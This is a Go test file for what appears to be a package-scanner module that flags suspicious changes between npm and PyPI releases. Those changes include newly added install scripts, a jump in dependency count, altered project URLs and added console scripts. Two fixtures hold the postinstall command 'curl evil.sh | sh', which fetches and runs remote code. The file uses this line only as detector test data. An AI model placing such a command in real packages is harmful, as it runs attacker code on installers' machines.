package enrich

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"io"
	"testing"
	"time"

	"github.com/phantomscan/phantomscan/pkg/registry/npm"
	"github.com/phantomscan/phantomscan/pkg/registry/pypi"
)

type fakeVersionFlipRegistry struct {
	releases  map[string]*pypi.Release
	artifacts map[string][]byte
}

func (f *fakeVersionFlipRegistry) Project(context.Context, string) (*pypi.Project, error) {
	return nil, nil
}

func (f *fakeVersionFlipRegistry) Release(_ context.Context, _, version string) (*pypi.Release, error) {
	r, ok := f.releases[version]
	if !ok {
		return nil, errors.New("release not found")
	}
	return r, nil
}

func (f *fakeVersionFlipRegistry) Artifact(_ context.Context, _, _, filename string) (io.ReadCloser, error) {
	b, ok := f.artifacts[filename]
	if !ok {
		return nil, errors.New("artifact not found")
	}
	return io.NopCloser(bytes.NewReader(b)), nil
}

func buildWheel(t *testing.T, entryPointsContent string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	if entryPointsContent != "" {
		w, err := zw.Create("pkg-1.0.0.dist-info/entry_points.txt")
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(entryPointsContent)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestSemverPrecedes(t *testing.T) {
	for _, tc := range []struct {
		a, b string
		want bool
	}{
		{a: "1.0.0", b: "1.0.1", want: true},
		{a: "1.1.0", b: "1.0.9", want: false},
		{a: "not-a-version", b: "1.0.0", want: true},
	} {
		if got := semverPrecedes(tc.a, tc.b); got != tc.want {
			t.Errorf("semverPrecedes(%q, %q) = %v, want %v", tc.a, tc.b, got, tc.want)
		}
	}
}

func TestNPMVersionFlipNilPackage(t *testing.T) {
	score, reasons := NPMVersionFlip(nil, 30)
	if score != 0 || reasons != nil {
		t.Errorf("NPMVersionFlip(nil) = (%v, %v), want (0, nil)", score, reasons)
	}
}

func TestNPMVersionFlipDetectsNewlyAddedScripts(t *testing.T) {
	now := time.Now()
	pkg := &npm.NPMPackage{
		DistTags: npm.DistTags{Latest: "1.1.0"},
		UploadTimes: map[string]time.Time{
			"1.0.0": now.Add(-10 * 24 * time.Hour),
			"1.1.0": now,
		},
		Versions: map[string]npm.Release{
			"1.0.0": {Scripts: map[string]string{}},
			"1.1.0": {Scripts: map[string]string{"postinstall": "curl evil.sh | sh"}},
		},
	}
	score, reasons := NPMVersionFlip(pkg, 30)
	if score != 0.7 {
		t.Errorf("NPMVersionFlip() score = %v, want 0.7", score)
	}
	if len(reasons) == 0 {
		t.Error("NPMVersionFlip() reasons empty, want a version-flip reason")
	}
}

func TestNPMVersionFlipNoChangeNoFlip(t *testing.T) {
	now := time.Now()
	pkg := &npm.NPMPackage{
		DistTags: npm.DistTags{Latest: "1.1.0"},
		UploadTimes: map[string]time.Time{
			"1.0.0": now.Add(-10 * 24 * time.Hour),
			"1.1.0": now,
		},
		Versions: map[string]npm.Release{
			"1.0.0": {Scripts: map[string]string{"postinstall": "node setup.js"}},
			"1.1.0": {Scripts: map[string]string{"postinstall": "node setup.js"}},
		},
	}
	score, _ := NPMVersionFlip(pkg, 30)
	if score != 0 {
		t.Errorf("NPMVersionFlip() score = %v, want 0 when scripts are unchanged", score)
	}
}

func TestPyPIVersionFlipNilProject(t *testing.T) {
	score, reasons := PyPIVersionFlip(context.Background(), &fakeVersionFlipRegistry{}, "pkg", nil, 30, 3)
	if score != 0 || reasons != nil {
		t.Errorf("PyPIVersionFlip(nil) = (%v, %v), want (0, nil)", score, reasons)
	}
}

func TestPyPIVersionFlipDependencyIncrease(t *testing.T) {
	now := time.Now()
	project := &pypi.Project{
		Info: pypi.Info{Version: "2.0.0", RequiresDist: []string{"a", "b", "c", "d"}},
		Releases: map[string][]pypi.Artifact{
			"1.0.0": {{Filename: "pkg-1.0.0.tar.gz", UploadTime: now.Add(-10 * 24 * time.Hour)}},
			"2.0.0": {{Filename: "pkg-2.0.0.tar.gz", UploadTime: now}},
		},
	}
	reg := &fakeVersionFlipRegistry{
		releases: map[string]*pypi.Release{
			"1.0.0": {Info: pypi.Info{RequiresDist: []string{"a"}}},
		},
	}
	score, reasons := PyPIVersionFlip(context.Background(), reg, "pkg", project, 30, 3)
	if score != 0.6 {
		t.Errorf("PyPIVersionFlip() score = %v, want 0.6 for a dependency-count increase", score)
	}
	if len(reasons) == 0 {
		t.Error("PyPIVersionFlip() reasons empty, want a dependency-count reason")
	}
}

func TestPyPIVersionFlipProjectURLsChanged(t *testing.T) {
	now := time.Now()
	project := &pypi.Project{
		Info: pypi.Info{
			Version:      "2.0.0",
			RequiresDist: []string{"a"},
			ProjectURLs:  map[string]string{"Homepage": "https://evil.example.com"},
		},
		Releases: map[string][]pypi.Artifact{
			"1.0.0": {{Filename: "pkg-1.0.0.tar.gz", UploadTime: now.Add(-10 * 24 * time.Hour)}},
			"2.0.0": {{Filename: "pkg-2.0.0.tar.gz", UploadTime: now}},
		},
	}
	reg := &fakeVersionFlipRegistry{
		releases: map[string]*pypi.Release{
			"1.0.0": {Info: pypi.Info{
				RequiresDist: []string{"a"},
				ProjectURLs:  map[string]string{"Homepage": "https://example.com"},
			}},
		},
	}
	score, reasons := PyPIVersionFlip(context.Background(), reg, "pkg", project, 30, 3)
	if score != 0.5 {
		t.Errorf("PyPIVersionFlip() score = %v, want 0.5 for a project-URL change", score)
	}
	if len(reasons) == 0 {
		t.Error("PyPIVersionFlip() reasons empty, want a project-URL reason")
	}
}

func TestPyPIVersionFlipConsoleScriptsAdded(t *testing.T) {
	now := time.Now()
	wheelWithScripts := buildWheel(t, "[console_scripts]\nfoo = pkg.cli:main\n")
	wheelWithoutScripts := buildWheel(t, "")
	project := &pypi.Project{
		Info: pypi.Info{Version: "2.0.0", RequiresDist: []string{"a"}},
		Releases: map[string][]pypi.Artifact{
			"1.0.0": {{Filename: "pkg-1.0.0-py3-none-any.whl", UploadTime: now.Add(-10 * 24 * time.Hour)}},
			"2.0.0": {{Filename: "pkg-2.0.0-py3-none-any.whl", UploadTime: now}},
		},
	}
	reg := &fakeVersionFlipRegistry{
		releases: map[string]*pypi.Release{
			"1.0.0": {Info: pypi.Info{RequiresDist: []string{"a"}}},
		},
		artifacts: map[string][]byte{
			"pkg-1.0.0-py3-none-any.whl": wheelWithoutScripts,
			"pkg-2.0.0-py3-none-any.whl": wheelWithScripts,
		},
	}
	score, reasons := PyPIVersionFlip(context.Background(), reg, "pkg", project, 30, 3)
	if score != 0.5 {
		t.Errorf("PyPIVersionFlip() score = %v, want 0.5 for newly-added console scripts", score)
	}
	if len(reasons) == 0 {
		t.Error("PyPIVersionFlip() reasons empty, want a console-script reason")
	}
}

func TestPyPIVersionFlipNoChangeNoFlip(t *testing.T) {
	now := time.Now()
	project := &pypi.Project{
		Info: pypi.Info{Version: "2.0.0", RequiresDist: []string{"a"}},
		Releases: map[string][]pypi.Artifact{
			"1.0.0": {{Filename: "pkg-1.0.0.tar.gz", UploadTime: now.Add(-10 * 24 * time.Hour)}},
			"2.0.0": {{Filename: "pkg-2.0.0.tar.gz", UploadTime: now}},
		},
	}
	reg := &fakeVersionFlipRegistry{
		releases: map[string]*pypi.Release{
			"1.0.0": {Info: pypi.Info{RequiresDist: []string{"a"}}},
		},
	}
	score, reasons := PyPIVersionFlip(context.Background(), reg, "pkg", project, 30, 3)
	if score != 0 {
		t.Errorf("PyPIVersionFlip() score = %v, want 0 when nothing changed", score)
	}
	if reasons != nil {
		t.Errorf("PyPIVersionFlip() reasons = %v, want nil", reasons)
	}
}

func TestHasConsoleScriptsSection(t *testing.T) {
	for _, tc := range []struct {
		name string
		text string
		want bool
	}{
		{name: "empty", text: "", want: false},
		{name: "no console_scripts section", text: "[options]\nfoo = bar\n", want: false},
		{name: "empty console_scripts section", text: "[console_scripts]\n\n[options]\nfoo = bar\n", want: false},
		{name: "populated console_scripts section", text: "[console_scripts]\nfoo = pkg.cli:main\n", want: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := hasConsoleScriptsSection(tc.text); got != tc.want {
				t.Errorf("hasConsoleScriptsSection(%q) = %v, want %v", tc.text, got, tc.want)
			}
		})
	}
}

func TestNPMVersionFlipOutsideWindowIsIgnored(t *testing.T) {
	now := time.Now()
	pkg := &npm.NPMPackage{
		DistTags: npm.DistTags{Latest: "2.0.0"},
		UploadTimes: map[string]time.Time{
			"1.0.0": now.Add(-400 * 24 * time.Hour),
			"2.0.0": now,
		},
		Versions: map[string]npm.Release{
			"1.0.0": {Scripts: map[string]string{}},
			"2.0.0": {Scripts: map[string]string{"postinstall": "curl evil.sh | sh"}},
		},
	}
	score, _ := NPMVersionFlip(pkg, 30)
	if score != 0 {
		t.Errorf("NPMVersionFlip() score = %v, want 0 when the prior version is outside the window", score)
	}
}
